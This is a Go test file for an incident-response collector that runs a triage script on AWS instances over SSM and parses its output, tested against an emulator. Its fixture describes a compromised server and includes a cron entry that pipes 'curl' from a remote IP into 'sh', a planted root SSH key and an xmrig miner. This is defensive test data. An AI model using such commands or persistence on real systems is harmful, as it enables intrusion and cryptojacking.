package collectors

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"errors"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/aws/smithy-go"
	"github.com/zclconf/go-cty/cty"

	"github.com/cordonhq/cordon/collectors/triage"
	"github.com/cordonhq/cordon/internal/awsemu"
)

// triageOutput is what the script prints on a compromised web server.
const triageOutput = "cordon-triage\t1\n" +
	"host\thostname\tip-10-0-1-10\n" +
	"host\tkernel\t6.1.119-129.201.amzn2023.x86_64\n" +
	"host\ttime\t1740832200\n" + // testNow
	"who\tec2-user pts/0        2025-03-01 11:58 (198.51.100.23)\n" +
	"key\troot\t/root/.ssh/authorized_keys\tssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil x@y\n" +
	"cron\t/var/spool/cron/apache\tapache\t*/10 * * * * curl -s http://203.0.113.50/i.sh | sh\n" +
	"proc\t1\t0\troot\t1740800000\tsystemd\t/usr/lib/systemd/systemd\t\t/usr/lib/systemd/systemd\n" +
	"proc\t4242\t1\tapache\t1740831000\txmrig\t/tmp/.x/xmrig\t" + "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" + "\t/tmp/.x/xmrig -o pool.supportxmr.com:3333\n" +
	"sock\ttcp\tESTABLISHED\t10.0.1.10\t40000\t203.0.113.50\t3333\t4242\n" +
	"last\tec2-user pts/0        198.51.100.23    Sat Mar  1 11:58:02 2025   still logged in\n" +
	"file\t1740831000\t3145728\t/tmp/.x/xmrig\n" +
	"end\n"

// newTriage builds the collector with quick polls.
func newTriage(t testing.TB, attrs map[string]cty.Value) *ssmTriage {
	t.Helper()
	c := newCollector(t, "aws_ssm_triage", attrs).(*ssmTriage)
	c.pollFirst, c.pollMax = time.Millisecond, 5*time.Millisecond
	return c
}

func gzipped(t testing.TB, text string) string {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(text))
	w.Close()
	return "cordon-triage-gz\t1\n" + base64.StdEncoding.EncodeToString(b.Bytes()) + "\n"
}

func TestSSMTriageFacts(t *testing.T) {
	// Plain records over 24,000 characters: SSM returns the first 24,000.
	var long strings.Builder
	long.WriteString("cordon-triage\t1\nhost\thostname\tbig\n")
	for i := range 400 {
		long.WriteString("proc\t" + strconv.Itoa(1000+i) + "\t1\troot\t1740800000\tworker\t/usr/bin/worker\t\t/usr/bin/worker --serve --with-a-long-command-line-for-padding\n")
	}
	long.WriteString("end\n")

	tests := []struct {
		name      string
		result    awsemu.CommandResult
		faults    func(*awsemu.Faults)
		truncated bool
		check     func(t *testing.T, facts map[string]any)
	}{
		{name: "plain output", result: awsemu.CommandResult{Stdout: triageOutput, Polls: 2}},
		{name: "compressed output", result: awsemu.CommandResult{Stdout: gzipped(t, triageOutput), Polls: 1}},
		{name: "throttled polls are retried", result: awsemu.CommandResult{Stdout: triageOutput, Polls: 1},
			// The SDK retries within a poll, the collector across polls.
			faults: func(f *awsemu.Faults) { f.Throttle("ssm:GetCommandInvocation", 2) }},
		{name: "SSM errors are retried", result: awsemu.CommandResult{Stdout: triageOutput, Polls: 1},
			faults: func(f *awsemu.Faults) { f.ServerError("ssm:GetCommandInvocation", 5) }},
		{name: "output cut by SSM", result: awsemu.CommandResult{Stdout: long.String()}, truncated: true,
			check: func(t *testing.T, facts map[string]any) {
				n := len(facts["processes"].([]any))
				if n < 150 || n >= 400 {
					t.Errorf("%d processes from 24,000 characters", n)
				}
			}},
		{name: "script stopped part way: facts, truncated", truncated: true,
			result: awsemu.CommandResult{Stdout: triageOutput[:strings.Index(triageOutput, "sock\t")], ExitCode: 137, Stderr: "Killed"},
			check: func(t *testing.T, facts map[string]any) {
				if len(facts["processes"].([]any)) != 2 || len(facts["connections"].([]any)) != 0 {
					t.Errorf("facts %v", facts)
				}
			}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			te := newTestEnv(t)
			te.emu.SetCommandResult(web1, tc.result)
			if tc.faults != nil {
				tc.faults(te.emu.Faults())
			}
			c := newTriage(t, nil)
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			defer cancel()
			facts, err := c.Collect(ctx, te.request(web1))
			if err != nil {
				t.Fatal(err)
			}
			if facts["truncated"] != tc.truncated {
				t.Errorf("truncated = %v, want %v", facts["truncated"], tc.truncated)
			}
			if tc.check != nil {
				tc.check(t, facts)
			} else {
				want, err := triage.Parse([]byte(triageOutput))
				if err != nil {
					t.Fatal(err)
				}
				if !jsonEqual(t, facts, want.Map()) {
					t.Errorf("facts %v\nwant %v", viaJSON(t, facts), viaJSON(t, want.Map()))
				}
				procs := facts["processes"].([]any)
				if x := procs[1].(map[string]any); x["name"] != "xmrig" || x["start_time"] != "2025-03-01T12:10:00Z" {
					t.Errorf("miner %v", x)
				}
			}
			checkFactsSchema(t, "aws_ssm_triage", facts)
			checkPermissions(t, c, te.actionsCalled())

			// What was sent: the script, as AWS-RunShellScript's commands,
			// within the collector's timeout.
			var cmd *awsemu.Command
			for _, c := range te.emu.Snapshot().Accounts[prodAccount].Regions[region].Commands {
				cmd = c
			}
			if cmd == nil || cmd.DocumentName != "AWS-RunShellScript" ||
				!slices.Equal(cmd.InstanceIDs, []string{web1}) || !strings.Contains(cmd.Comment, incidentID) {
				t.Fatalf("command sent %+v", cmd)
			}
			et := cmd.Parameters["executionTimeout"]
			if len(et) != 1 || atoiOr0(et[0]) < 1 || atoiOr0(et[0]) > 20 {
				t.Fatalf("executionTimeout %v for a 20s timeout", et)
			}
			// The script, set to collect for less than the timeout.
			budget := scriptBudget(time.Duration(atoiOr0(et[0]))*time.Second, c.pollMax)
			if budget <= 0 || budget >= time.Duration(atoiOr0(et[0]))*time.Second ||
				!slices.Equal(cmd.Parameters["commands"], triage.Commands(budget)) {
				t.Errorf("commands sent are not the script with a budget of %v under the %ss timeout", budget, et[0])
			}
		})
	}
}

func TestSSMTriageErrors(t *testing.T) {
	tests := []struct {
		name    string
		id      string
		result  *awsemu.CommandResult
		change  func(*awsemu.Seed)
		faults  func(*awsemu.Faults)
		noAWS   bool
		timeout time.Duration
		want    []string
		// cancelled: the command was cancelled after the timeout.
		cancelled bool
	}{
		{name: "no AWS access", id: web1, noAWS: true, want: []string{"aws_ssm_triage needs AWS access"}},
		{name: "not managed by SSM", id: web2,
			change: func(s *awsemu.Seed) { seedInstance(s, web2).SSMManaged = false },
			want:   []string{"instance " + web2 + " is not managed by SSM", "111122223333", "InvalidInstanceId"}},
		{name: "stopped instance", id: batch1, want: []string{"instance " + batch1 + " is not managed by SSM", "not running"}},
		{name: "never finishes: timeout, cancelled", id: web1, result: &awsemu.CommandResult{Polls: -1}, timeout: 300 * time.Millisecond,
			want: []string{"did not finish within the collector's timeout", context.DeadlineExceeded.Error()}, cancelled: true},
		{name: "failed command", id: web1, result: &awsemu.CommandResult{Stdout: "", Stderr: "sh: awk: command not found", ExitCode: 127},
			want: []string{"Failed", "exit code 127", "awk: command not found"}},
		{name: "not the triage script's output", id: web1, result: &awsemu.CommandResult{Stdout: "hostname: web-1\n"},
			want: []string{"not cordon triage output", "hostname: web-1"}},
		{name: "succeeded and printed nothing", id: web1, result: &awsemu.CommandResult{Stdout: "", Stderr: "bash: /dev/fd/63: Permission denied"},
			want: []string{"succeeded but printed nothing", "Permission denied"}},
		{name: "not allowed", id: web1, faults: func(f *awsemu.Faults) {
			f.Fail("ssm:SendCommand", web1, "AccessDeniedException", "User is not authorized to perform: ssm:SendCommand")
		}, want: []string{"sending the triage command", "AccessDeniedException"}},
		{name: "polling denied", id: web1, faults: func(f *awsemu.Faults) {
			f.Fail("ssm:GetCommandInvocation", web1, "AccessDeniedException", "not authorized")
		}, want: []string{"waiting for triage command", "AccessDeniedException"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			te := newTestEnvSeed(t, tc.change)
			if tc.result != nil {
				te.emu.SetCommandResult(tc.id, *tc.result)
			}
			if tc.faults != nil {
				tc.faults(te.emu.Faults())
			}
			req := te.request(tc.id)
			if tc.noAWS {
				req.AWS = nil
			}
			timeout := tc.timeout
			if timeout == 0 {
				timeout = 20 * time.Second
			}
			ctx, cancel := context.WithTimeout(context.Background(), timeout)
			defer cancel()
			start := time.Now()
			c := newTriage(t, nil)
			facts, err := c.Collect(ctx, req)
			if err == nil {
				t.Fatalf("no error; facts %v", facts)
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
			if tc.timeout > 0 {
				if !errors.Is(err, context.DeadlineExceeded) {
					t.Errorf("error %v is not the deadline", err)
				}
				if d := time.Since(start); d > tc.timeout+5*time.Second {
					t.Errorf("returned %v after a %v timeout", d, tc.timeout)
				}
			}
			if !tc.noAWS {
				checkPermissions(t, c, te.actionsCalled())
			}
			called := te.actionsCalled()
			if slices.Contains(called, "ssm:CancelCommand") != tc.cancelled {
				t.Errorf("calls %v; cancelled wanted %v", called, tc.cancelled)
			}
			if tc.cancelled {
				for _, cmd := range te.emu.Snapshot().Accounts[prodAccount].Regions[region].Commands {
					if s := cmd.Invocations[tc.id].Status; s != "Cancelled" {
						t.Errorf("invocation %s after the timeout", s)
					}
				}
			}
		})
	}
}

func TestSSMTriageConfig(t *testing.T) {
	c := newTriage(t, map[string]cty.Value{"max_output_bytes": cty.NumberIntVal(4096)})
	if c.maxOutput != 4096 {
		t.Errorf("maxOutput %d", c.maxOutput)
	}
	if newTriage(t, nil).maxOutput != triage.MaxOutputBytes {
		t.Error("default maxOutput")
	}
	for _, bad := range []cty.Value{cty.NumberIntVal(0), cty.NumberFloatVal(1.5), cty.NumberIntVal(triage.MaxOutputBytes + 1)} {
		if _, err := buildCollector("aws_ssm_triage", map[string]cty.Value{"max_output_bytes": bad}); err == nil {
			t.Errorf("max_output_bytes = %s accepted", bad.AsBigFloat())
		}
	}
	want := []string{"ssm:CancelCommand", "ssm:GetCommandInvocation", "ssm:SendCommand"}
	got := slices.Sorted(slices.Values(c.Permissions()))
	if !slices.Equal(got, want) {
		t.Errorf("Permissions() %v, want %v", got, want)
	}
}

func TestScriptBudget(t *testing.T) {
	for _, tc := range []struct{ timeout, want time.Duration }{
		{3 * time.Minute, 144 * time.Second},  // a fifth left
		{20 * time.Second, 10 * time.Second},  // a poll and 5s left
		{12 * time.Second, 6 * time.Second},   // at most half left
		{time.Second, 500 * time.Millisecond}, // (the script rounds it down to 0: host facts only)
	} {
		if got := scriptBudget(tc.timeout, 5*time.Second); got != tc.want {
			t.Errorf("scriptBudget(%v) = %v, want %v", tc.timeout, got, tc.want)
		}
	}
}

func atoiOr0(s string) int {
	n, _ := strconv.Atoi(s)
	return n
}

func TestTransientSSMError(t *testing.T) {
	for code, want := range map[string]bool{
		"InvocationDoesNotExist": true, "ThrottlingException": true, "InternalServerError": true,
		"AccessDeniedException": false, "InvalidCommandId": false,
	} {
		if got := transientSSMError(&smithy.GenericAPIError{Code: code}); got != want {
			t.Errorf("%s: transient %v, want %v", code, got, want)
		}
	}
	if transientSSMError(errors.New("dial tcp: connection refused")) {
		t.Error("a network error the SDK gave up on is retried")
	}
}
